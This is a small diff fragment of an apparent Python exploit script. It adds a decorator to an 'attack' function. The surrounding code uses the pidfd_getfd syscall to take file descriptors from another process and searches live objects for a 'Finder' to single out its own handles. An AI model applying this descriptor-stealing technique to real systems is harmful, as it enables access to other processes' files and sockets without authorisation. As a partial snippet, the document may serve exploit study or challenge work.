@@ -16,6 +16,7 @@ def take(pid):
     system("syscall", 438, descriptor, 0, 0)
 
 
+@once
 def attack():
     finder = next(each for each in gc.get_objects() if type(each).__name__ == "Finder")
     mine = {0, 1, 2, channel().sock.fileno(), finder._library.fileno()}
